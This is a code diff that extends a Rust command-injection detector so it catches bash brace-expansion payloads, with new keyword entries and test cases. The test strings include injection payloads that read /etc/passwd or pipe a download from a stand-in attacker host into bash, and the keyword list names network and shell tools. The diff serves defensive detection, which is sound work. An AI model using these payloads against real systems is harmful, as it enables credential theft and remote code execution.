@@ -44,7 +44,7 @@ fn weak(w: &[u8]) -> bool {
         b"host" | b"touch" | b"cp" | b"mv" | b"tar" | b"ip" | b"su" | b"sudo" | b"xargs" | b"start" | b"call" |
         b"exec" | b"eval" | b"nohup" | b"time" | b"curl" | b"nc" | b"bash" | b"sh" | b"zsh" | b"ksh" | b"csh" |
         b"telnet" | b"chmod" | b"passwd" | b"perl" | b"python" | b"python3" | b"php" | b"ruby" | b"cmd" | b"base64" |
-        b"xterm" | b"hostname" | b"dig" | b"gcc" | b"rm" | b"sleep" | b"uptime" | b"timeout"
+        b"xterm" | b"hostname" | b"dig" | b"gcc" | b"rm" | b"sleep" | b"uptime" | b"timeout" | b"tac" | b"xxd"
     )
 }
 
@@ -134,6 +134,18 @@ fn command_at(s: &[u8], i: usize, weak_ok: bool, may_end: bool) -> (bool, bool) 
         return (weak_ok && shell_argument(s, end, may_end), true);
     }
     (false, false)
+}
+
+/// Bash's brace expansion as a command line with no blank (`{cat,/etc/passwd}`, `{id,}`):
+/// `{`, a command word, `,`, its arguments, `}`.
+fn brace_command(s: &[u8], i: usize) -> bool {
+    let i = skip_blanks(s, i);
+    if s.get(i) != Some(&b'{') {
+        return false;
+    }
+    let (w, n, end) = command_word(s, i + 1);
+    let word = &w[..n];
+    s.get(end) == Some(&b',') && (strong(word) || weak(word)) && s[end..(end + 256).min(s.len())].contains(&b'}')
 }
 
 /// Whether the command at `s[i..]` is a [`strong`] one.
@@ -255,6 +267,9 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
         if broken_out && !hugged && b != b'\n' && binary_path(s, after) {
             return (true, true);
         }
+        if !hugged && b != b'\n' && brace_command(s, after) {
+            return (true, true);
+        }
         let (c, sus) = command_at(s, after, !hugged && broken_out, b != b'\n');
         if c && (broken_out || (b != b'\n' && strong_at(s, after))) {
             return (true, true);
@@ -297,6 +312,10 @@ mod tests {
             "| /usr/bin/id",
             "& ping -n 3 127.0.0.1 &",
             "; sleep 5",
+            ";{cat,/etc/passwd}",
+            "127.0.0.1;{curl,-s,evil.example/s}|{bash,}",
+            "|{id,}",
+            ";tac /etc/passwd",
             "|nslookup x.attacker.example",
             "$(curl http://x.example/s.sh|sh)",
             "; ls",
@@ -347,6 +366,8 @@ mod tests {
             "a=1&b=2&cat=shoes",
             "Meet me at 5; more later",
             "Salt & pepper",
+            "a; {red,green} or blue",
+            "see {tail, head}; pick one",
             "## Steps\n1. run `npm i`\n2. `cat package.json | grep version`\n```sh\nrm -rf node_modules && npm ci\n```\n> works on my machine :)",
             "I tried `curl -s https://api.example.com/v1/me | jq .` and then ; ls -la ~/.config and nothing",
             "sudo apt update; cat /etc/os-release",
